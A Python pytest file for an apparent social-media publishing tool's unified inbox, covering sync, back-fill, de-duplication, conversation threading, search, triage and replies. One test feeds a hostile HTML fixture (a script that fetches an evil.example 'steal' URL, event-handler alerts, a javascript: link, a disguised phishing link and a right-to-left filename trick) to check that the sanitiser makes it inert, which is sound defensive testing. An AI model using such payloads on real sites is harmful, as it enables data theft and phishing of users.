"""The unified inbox's core: sync (paging, back-fill, de-duplication, edits), conversations linked to our posts,
hostile content made inert, sentiment, triage and replies that are never lost."""

from __future__ import annotations

import sqlite3
from contextlib import closing
from datetime import timedelta, timezone

import pytest
from sqlalchemy import func, select, text
from sqlalchemy.exc import IntegrityError

from publisher.channels.registry import Registry
from publisher.db.models import Delivery, InboxContact, InboxConversation, InboxReply, Post
from publisher.domain.inbox import MAX_TEXT_CHARS
from publisher.domain.sentiment import NEUTRAL
from publisher.errors import ChannelError, InputError, NotFound, Rejected, Transient
from publisher.services import InboxFilter
from publisher.services._inbox_store import InboxStore
from tests.publisher.conftest import START
from tests.publisher.inbox_fake import FakeInboxKind


@pytest.fixture
def network() -> FakeInboxKind:
    return FakeInboxKind()


@pytest.fixture
def services(make_services, network):
    services = make_services(registry=Registry([network]))
    services.channels.add("fakeinbox", name="Fake")
    return services


def _ago(minutes: float):
    return START - timedelta(minutes=minutes)


def _texts(services, **filters) -> list[str]:
    return [r.text for r in services.inbox.list(InboxFilter(**filters))]


# -- sync ----------------------------------------------------------------------------------------------------


def test_first_sync_back_fills_30_days_over_several_pages(services, network):
    for n in range(10):
        network.add(f"m{n}", _ago(60 * 24 * n * 4), f"message {n}")  # every 4 days: m0 … m7 within 30 days
    reports = services.inbox.sync()
    assert [(r.channel, r.new, r.backfill_done, r.error_code) for r in reports] == [("Fake", 8, True, None)]
    assert reports[0].pages == 3  # 3 + 3 + the page that reaches past 30 days
    assert _texts(services) == [f"message {n}" for n in range(8)]  # newest first


def test_a_later_sync_stops_at_the_first_page_with_nothing_new(services, network, clock):
    for n in range(9):
        network.add(f"m{n}", _ago(10 + n), f"message {n}")
    services.inbox.sync()
    network.cursors.clear()
    clock.advance(timedelta(minutes=5))
    network.add("new1", clock.now() - timedelta(minutes=1), "newest")
    report = services.inbox.sync()[0]
    assert report.new == 1
    assert network.cursors == [None, "3"]  # page 2 held only known items: done
    assert services.inbox.sync()[0].new == 0


def test_an_interrupted_back_fill_goes_on_where_it_stopped(services, network):
    for n in range(9):
        network.add(f"m{n}", _ago(10 + n), f"message {n}")
    calls = 0
    original = network.connect

    def flaky(config, secret):
        connector = original(config, secret)
        fetch = connector.fetch_inbox

        def fetch_inbox(cursor=None):
            nonlocal calls
            calls += 1
            if calls == 2:
                raise Transient()
            return fetch(cursor)

        connector.fetch_inbox = fetch_inbox
        return connector

    network.connect = flaky
    first = services.inbox.sync()[0]
    assert (first.new, first.error_code, first.backfill_done) == (3, "channel.transient", False)
    network.cursors.clear()
    second = services.inbox.sync()[0]
    assert (second.new, second.error_code, second.backfill_done) == (6, None, True)
    assert network.cursors == [None, "3", "6"]  # the top (all known) then on from page 2
    assert services.inbox.count() == 9


def test_duplicates_are_stored_once_and_edits_update_the_row(services, network, clock):
    network.add("a", _ago(5), "I love it")
    network.items.append(network.items[0])  # the network sends it twice
    services.inbox.sync()
    assert services.inbox.count() == 1
    network.add("a", _ago(5), "I hate it")
    network.cursors.clear()
    report = services.inbox.sync()[0]
    assert (report.new, report.updated) == (0, 1)
    (row,) = services.inbox.list()
    assert (row.text, row.edited, row.sentiment) == ("I hate it", True, "negative")
    assert _texts(services, query="hate") == ["I hate it"]
    assert _texts(services, query="love") == []  # the search index follows the edit


def test_deletions_on_the_network_are_reflected(services, network):
    network.add("a", _ago(5), "oops")
    services.inbox.sync()
    network.add("a", _ago(5), "oops", deleted=True)
    services.inbox.sync()
    assert services.inbox.list()[0].deleted is True


def test_a_failing_channel_is_reported_and_the_others_still_sync(make_services, network):
    broken = FakeInboxKind(fetch_error=Rejected("channel.rejected"))
    broken.kind = "brokeninbox"
    services = make_services(registry=Registry([network, broken]))
    services.channels.add("fakeinbox", name="Good")
    services.channels.add("brokeninbox", name="Bad")
    network.add("a", _ago(1), "hi")
    reports = {r.channel: r for r in services.inbox.sync()}
    assert reports["Bad"].error_code == "channel.rejected"
    assert reports["Good"].new == 1


def test_syncing_a_channel_without_inbox_or_unknown_is_an_error(make_services, network, feed_dir):
    from publisher.channels.feed import FeedKind

    services = make_services(registry=Registry([network, FeedKind()]))
    services.channels.add("feed", name="Blog", path=str(feed_dir))
    with pytest.raises(InputError) as exc:
        services.inbox.sync("Blog")
    assert exc.value.code == "inbox.not_supported"
    with pytest.raises(NotFound):
        services.inbox.sync("Nope")
    assert services.inbox.sync() == []


# -- conversations and contacts --------------------------------------------------------------------------------


def _published_post(services, remote_id: str, campaign: str | None) -> int:
    with services.db.session(write=True) as session:
        channel_id = session.scalar(text("SELECT id FROM channels WHERE name = 'Fake'"))
        post = Post(
            title="Launch",
            body="We launched",
            campaign=campaign,
            status="scheduled",
            created_at=START,
            updated_at=START,
        )
        session.add(post)
        session.flush()
        session.add(
            Delivery(
                post_id=post.id,
                channel_id=channel_id,
                state="published",
                remote_id=remote_id,
                created_at=START,
                updated_at=START,
            )
        )
        return post.id


def test_replies_to_our_post_form_a_conversation_linked_to_the_post_and_campaign(services, network):
    post_id = _published_post(services, "our-1", "Winter launch")
    network.add("r1", _ago(30), "Congrats!", in_reply_to_id="our-1", author="@bo@x.example")
    network.add("r2", _ago(20), "Thanks Bo", in_reply_to_id="r1", author="@cy@x.example")
    network.add("r3", _ago(10), "Great", in_reply_to_id="r2")
    network.add("m1", _ago(5), "unrelated mention")
    network.page_size = 2  # the chain spans pages, newest first
    services.inbox.sync()
    rows = {r.text: r for r in services.inbox.list()}
    conv = rows["Congrats!"].conversation_id
    assert rows["Thanks Bo"].conversation_id == conv == rows["Great"].conversation_id
    assert rows["unrelated mention"].conversation_id is None  # nobody answered it: no conversation yet
    detail = services.inbox.get(rows["Great"].id)
    assert (detail.post_id, detail.campaign) == (post_id, "Winter launch")
    assert [t.text for t in detail.thread] == ["Congrats!", "Thanks Bo", "Great"]
    assert _texts(services, campaign="Winter launch") == ["Great", "Thanks Bo", "Congrats!"]
    with services.db.session() as session:
        assert session.scalar(select(func.count(InboxConversation.id))) == 1


def test_a_reply_that_arrives_after_its_own_replies_joins_them_into_one_conversation(services, network, clock):
    _published_post(services, "our-1", None)
    network.add("child", _ago(5), "child", in_reply_to_id="parent")
    services.inbox.sync()
    network.add("parent", _ago(6), "parent", in_reply_to_id="our-1")
    clock.advance(timedelta(seconds=1))
    services.inbox.sync()
    rows = {r.text: r for r in services.inbox.list()}
    assert rows["child"].conversation_id == rows["parent"].conversation_id
    assert services.inbox.get(rows["child"].id).post_id is not None


def test_authors_become_contacts_one_per_handle(services, network):
    network.add("a", _ago(3), "one", author="@ada@x.example", author_name="Ada")
    network.add("b", _ago(2), "two", author="@ada@x.example", author_name="Ada L.")
    network.add("c", _ago(1), "three", author="@bo@x.example", author_name="Bo")
    services.inbox.sync()
    with services.db.session() as session:
        contacts = {c.handle: c.display_name for c in session.scalars(select(InboxContact))}
    assert contacts == {"@ada@x.example": "Ada L.", "@bo@x.example": "Bo"}


# -- hostile content ------------------------------------------------------------------------------------------


def test_hostile_content_is_stored_inert_and_readable(services, network):
    html = (
        '<p>Hi<script>fetch("https://evil.example/steal")</script> <b onmouseover="alert(1)">there</b></p>'
        '<img src="https://tracker.example/pixel.gif" onerror="alert(2)" alt="logo">'
        '<a href="javascript:alert(3)">free gift</a> '
        '<a href="https://evil.example/login">https://bank.example</a>'
        '<iframe src="https://evil.example"></iframe><style>body{display:none}</style>'
    )
    rlo = "\u202e"
    network.add(
        "x", _ago(1), "Hi there free gift", html=html, author="@mal\u202elory", author_name=f"Admin {rlo}gpj.exe"
    )
    services.inbox.sync()
    detail = services.inbox.get(services.inbox.ids()[0])
    assert detail.html is not None
    for bad in ("<script", "onmouseover", "onerror", "<img", "javascript:", "<iframe", "<style", "steal"):
        assert bad not in detail.html
    assert "there" in detail.html and "free gift" in detail.html
    assert '<a href="https://tracker.example/pixel.gif"' in detail.html  # a link the user may open, not a load
    assert "[image: logo]" in detail.html
    assert "https://bank.example</a> (https://evil.example/login)" in detail.html  # the real target is shown
    assert rlo not in detail.row.author_name and rlo not in detail.row.author
    assert detail.row.author_name == "Admin gpj.exe"


def test_a_1_mb_body_is_cut_with_a_note(services, network):
    network.add("big", _ago(1), "spam " * 210_000, html="<p>" + "x" * 1_048_576 + "</p>")
    services.inbox.sync()
    detail = services.inbox.get(services.inbox.ids()[0])
    assert len(detail.full_text) < MAX_TEXT_CHARS + 200
    assert detail.full_text.endswith("characters]") and "shortened" in detail.full_text
    assert detail.html is None  # too big to keep: the plain text stands in
    assert len(services.inbox.list()[0].text) == 300


# -- list, search, triage --------------------------------------------------------------------------------------


def test_filters_search_and_triage(services, network):
    network.add("a", _ago(3), "Der Service ist nicht gut", author="@kai@x.example")
    network.add("b", _ago(2), "Wonderful product, thanks!")
    network.add("c", _ago(1), "Where can I buy Überraschungseier?")
    services.inbox.sync()
    ids = services.inbox.ids()
    assert len(ids) == 3
    assert services.inbox.unread_counts() == {"Fake": 3}
    assert _texts(services, sentiment="negative") == ["Der Service ist nicht gut"]
    assert _texts(services, query="wonder") == ["Wonderful product, thanks!"]  # words match as prefixes
    assert _texts(services, query="uberraschung") == ["Where can I buy Überraschungseier?"]  # diacritics folded
    assert _texts(services, query="kai") == ["Der Service ist nicht gut"]  # authors are searched too
    assert _texts(services, query='buy" (*') == ["Where can I buy Überraschungseier?"]  # no FTS syntax
    services.inbox.set_status([ids[0]], "done")
    services.inbox.assign([ids[1]], "maria")
    services.inbox.tag([ids[1], ids[2]], "  Sales Lead ")
    services.inbox.mark_read([ids[2]])
    assert _texts(services, status="open", assignee="maria") == ["Wonderful product, thanks!"]
    assert _texts(services, tag="sales lead") == ["Wonderful product, thanks!", "Der Service ist nicht gut"]
    assert services.inbox.unread_counts() == {"Fake": 1}
    assert services.inbox.get(ids[1]).tags == ("sales lead",)
    assert [r.id for r in services.inbox.rows([ids[2], 999, ids[0]])] == [ids[2], ids[0]]
    assert [r.id for r in services.inbox.list(limit=1, offset=1)] == [ids[1]]
    with pytest.raises(InputError):
        services.inbox.set_status(ids, "closed")
    with pytest.raises(NotFound):
        services.inbox.set_status([12345], "done")


# -- replies ---------------------------------------------------------------------------------------------------


def test_a_reply_goes_to_the_item_on_its_network_and_joins_the_conversation(services, network):
    network.add("q", _ago(1), "Is it out yet?")
    services.inbox.sync()
    item_id = services.inbox.ids()[0]
    sent = services.inbox.reply(item_id, "Yes, since today!")
    assert network.replies == [("q", "Yes, since today!")]
    assert (sent.state, sent.remote_id) == ("sent", "our-reply-1")
    detail = services.inbox.get(item_id)
    assert [(r.text, r.state) for r in detail.replies] == [("Yes, since today!", "sent")]
    assert detail.row.unread is False


def test_a_failed_reply_raises_a_clear_error_and_is_kept(services, network):
    network.add("q", _ago(1), "Hello?")
    services.inbox.sync()
    item_id = services.inbox.ids()[0]
    network.reply_error = Rejected("channel.rejected")
    with pytest.raises(ChannelError) as exc:
        services.inbox.reply(item_id, "Hi there")
    assert exc.value.code == "inbox.reply_failed"
    assert "kept as failed reply" in str(exc.value)
    (kept,) = services.inbox.get(item_id).replies
    assert (kept.text, kept.state, kept.error_code) == ("Hi there", "failed", "channel.rejected")
    with pytest.raises(InputError):
        services.inbox.reply(item_id, "   ")
    with services.db.session() as session:
        assert session.scalar(select(func.count(InboxReply.id))) == 1


def test_a_mention_that_gets_an_answer_later_becomes_the_root_of_a_conversation(services, network, clock):
    network.add("m", _ago(10), "Anyone from the team here?", author="@bo@x.example")
    services.inbox.sync()
    assert services.inbox.list()[0].conversation_id is None
    network.add("r", _ago(2), "Me too", in_reply_to_id="m")
    clock.advance(timedelta(seconds=1))
    services.inbox.sync()
    rows = {r.text: r for r in services.inbox.list()}
    assert rows["Me too"].conversation_id == rows["Anyone from the team here?"].conversation_id is not None
    detail = services.inbox.get(rows["Anyone from the team here?"].id)
    assert [t.text for t in detail.thread] == ["Anyone from the team here?", "Me too"]


def test_our_answer_to_a_lone_mention_stays_in_view_when_the_mention_becomes_a_conversation(services, network, clock):
    network.add("m", _ago(10), "Hello?")
    services.inbox.sync()
    item_id = services.inbox.ids()[0]
    services.inbox.reply(item_id, "Hi!")
    network.add("r", _ago(1), "Thanks", in_reply_to_id="m")
    clock.advance(timedelta(seconds=1))
    services.inbox.sync()
    later = services.inbox.ids()[0]
    assert [r.text for r in services.inbox.get(later).replies] == ["Hi!"]


def test_the_search_index_matches_the_items_after_ingest_and_after_a_failed_page(services, network, monkeypatch):
    for n in range(7):
        network.add(f"m{n}", _ago(10 + n), f"parcel number {n}")
    services.inbox.sync()

    def _check():
        with services.db.session() as session:
            session.execute(text("INSERT INTO inbox_fts(inbox_fts, rank) VALUES ('integrity-check', 1)"))
            assert session.scalar(text("SELECT deferred FROM inbox_fts_control")) == 0
            indexed = session.scalar(text("SELECT count(*) FROM inbox_fts WHERE inbox_fts MATCH 'parcel'"))
            assert indexed == session.scalar(text("SELECT count(*) FROM inbox_items"))

    _check()
    network.add("late", _ago(1), "parcel late")
    # A row the database refuses (text NULL): the insert fails after the trigger was deferred for the page.
    monkeypatch.setattr("publisher.services.inbox.clean_text", lambda _text: None)
    monkeypatch.setattr("publisher.services.inbox.analyse", lambda _text: NEUTRAL)
    with pytest.raises(IntegrityError):
        services.inbox.sync()
    monkeypatch.undo()
    _check()
    assert services.inbox.sync()[0].new == 1
    _check()
    assert _texts(services, query="late") == ["parcel late"]


def test_the_inbox_is_synced_periodically_beside_the_engine_and_a_failure_does_not_stop_it(services, network):
    """What ``publisher run`` does: sync at once, then every few minutes, whatever one run raises."""
    import time as _time

    from publisher.services._common import PeriodicTask

    network.add("m1", _ago(5), "first message")
    calls: list[int] = []

    def sync() -> None:
        calls.append(len(calls))
        if len(calls) == 1:
            raise RuntimeError("the database was locked")  # the first run fails outright
        services.inbox.sync()

    task = PeriodicTask("inbox sync", sync, every=0.05).start()
    deadline = _time.monotonic() + 10
    while _time.monotonic() < deadline and _texts(services) != ["first message"]:
        _time.sleep(0.05)
    task.stop()
    assert _texts(services) == ["first message"]
    assert len(calls) >= 2  # the failed first run was followed by another
    runs = task.runs
    _time.sleep(0.2)
    assert task.runs == runs  # stopped means stopped


# -- the SQLite ingest path -------------------------------------------------------------------------------------


def _network_with_history() -> FakeInboxKind:
    """Replies before their parents across pages, an umlaut in a sentiment word, a time not in UTC, HTML."""
    network = FakeInboxKind(page_size=2)
    network.add("r2", _ago(10), "Schön, danke!", in_reply_to_id="r1", author="@cy@x.example", author_name="Cy")
    network.add("r1", _ago(20), "Not good at all.", in_reply_to_id="our-1", author="@bo@x.example")
    network.add("m1", _ago(30).astimezone(timezone(timedelta(hours=2))), "Lieferung ist kaputt", author_name="Ada")
    network.add("m2", _ago(40), "plain", html='<p>See <a href="https://x.example/a">this</a></p>')
    network.add("m3", _ago(50), "the very first", author="@bo@x.example", author_name="Bo")
    return network


def _dump(services) -> dict[str, list[tuple[object, ...]]]:
    path = services.db.sqlite_path
    tables = ("inbox_items", "inbox_contacts", "inbox_conversations", "inbox_sync_state")
    with closing(sqlite3.connect(path)) as conn:
        return {t: conn.execute(f"SELECT * FROM {t} ORDER BY 1").fetchall() for t in tables}


def test_the_sqlite_ingest_writes_exactly_what_the_portable_one_writes(make_services, tmp_path, clock, monkeypatch):
    """The fast path on SQLite and the SQLAlchemy statements PostgreSQL runs leave byte-identical rows."""
    dumps = []
    for name, portable in (("fast", False), ("portable", True)):
        if portable:
            monkeypatch.setattr("publisher.services.inbox.store_for", lambda session, _dialect: InboxStore(session))
        network = _network_with_history()
        services = make_services(registry=Registry([network]), url=f"sqlite:///{tmp_path / name}.sqlite3")
        services.channels.add("fakeinbox", name="Fake")
        _published_post(services, "our-1", "Launch week")
        assert services.inbox.sync()[0].new == 5
        network.add("r2", _ago(10), "Schön, danke! Edit: kaputt", in_reply_to_id="r1", author="@cy@x.example")
        network.add("n1", _ago(1), "a new one", author="@bo@x.example", author_name="Bo Bolt")
        clock.advance(timedelta(minutes=1))
        (report,) = services.inbox.sync()
        assert (report.new, report.updated) == (1, 1)  # then it stops at the first page with nothing new
        dumps.append(_dump(services))
        clock.advance(timedelta(minutes=-1))
    fast, portable = dumps
    assert fast == portable
    items = {row[2]: row for row in fast["inbox_items"]}
    assert set(items) == {"r2", "r1", "m1", "m2", "m3", "n1"}
    assert len({items["r1"][12], items["r2"][12]}) == 1  # one conversation, linked to our post
    assert fast["inbox_conversations"][0][3:5] == (1, "Launch week")


def test_an_interrupted_back_fill_keeps_its_pages_and_the_next_sync_indexes_them(services, network, monkeypatch):
    """Rows are committed page by page while the full-text index is built at the end of a sync. If the process
    dies in between, the stored rows stay, and the next sync indexes them (edited ones with their new text)."""
    for n in range(9):
        network.add(f"m{n}", _ago(10 + n), f"parcel number {n}")
    network.page_size = 2
    pages = 0
    fetch = FakeInboxKind.connect

    def dying_connect(kind, config, secret):
        connector = fetch(kind, config, secret)
        original = connector.fetch_inbox

        def fetch_inbox(cursor=None):
            nonlocal pages
            pages += 1
            if pages == 3:
                raise KeyboardInterrupt  # as good as a crash: nothing but the committed pages survives
            return original(cursor)

        connector.fetch_inbox = fetch_inbox
        return connector

    monkeypatch.setattr(FakeInboxKind, "connect", dying_connect)
    monkeypatch.setattr("publisher.services.inbox.InboxService._index_pending", lambda self: None)
    with pytest.raises(KeyboardInterrupt):
        services.inbox.sync()
    monkeypatch.undo()
    assert sorted(r.text for r in services.inbox.list()) == [f"parcel number {n}" for n in range(4)]  # 2 pages
    assert _texts(services, query="parcel") == []  # stored, not searchable yet

    network.add("m1", _ago(11), "parcel number 1, edited: lost")  # an edit of a row not indexed yet
    network.page_size = 100
    services.inbox.sync()
    with services.db.session() as session:
        session.execute(text("INSERT INTO inbox_fts(inbox_fts, rank) VALUES ('integrity-check', 1)"))
        assert session.scalar(text("SELECT deferred FROM inbox_fts_control")) == 0
    assert len(_texts(services, query="parcel")) == 9
    assert _texts(services, query="lost") == ["parcel number 1, edited: lost"]
    assert _texts(services, query="parcel number 0") == ["parcel number 0"]


def test_an_item_restored_on_the_network_is_no_longer_deleted(services, network):
    at = _ago(60)
    network.add("1", at, "Kind words")
    services.inbox.sync()
    network.add("1", at, "Kind words", deleted=True)  # e.g. a WordPress comment moved to the trash
    assert services.inbox.sync()[0].updated == 1 and services.inbox.list()[0].deleted
    network.add("1", at, "Kind words")  # and taken out of it again
    assert services.inbox.sync()[0].updated == 1
    assert not services.inbox.list()[0].deleted
    assert services.inbox.sync()[0].updated == 0


def test_a_search_matching_many_messages_lists_them_newest_first_like_a_rare_one(services, network):
    network.page_size = 500
    for n in range(1_200):
        words = "delivery late" if n % 2 else "delivery fine"
        network.add(f"c{n}", _ago(1_000 - n * 0.5), f"{words} number{n}")
    services.inbox.sync()
    common = services.inbox.list(InboxFilter(query="delivery"), limit=5)  # 1,200 matches: read newest first
    assert [r.text for r in common] == [
        f"delivery {'late' if n % 2 else 'fine'} number{n}" for n in range(1199, 1194, -1)
    ]
    assert services.inbox.count(InboxFilter(query="delivery")) == 1_200
    assert services.inbox.count(InboxFilter(query="delivery late")) == 600
    rare = services.inbox.list(InboxFilter(query="number119"), limit=20)  # few matches (a prefix): fetched by id
    assert [r.text for r in rare][:3] == [
        "delivery late number1199",
        "delivery fine number1198",
        "delivery late number1197",
    ]
    assert len(rare) == 11  # number119 and number1190 … number1199
    assert [r.text for r in services.inbox.list(InboxFilter(query="late", status="done"))] == []
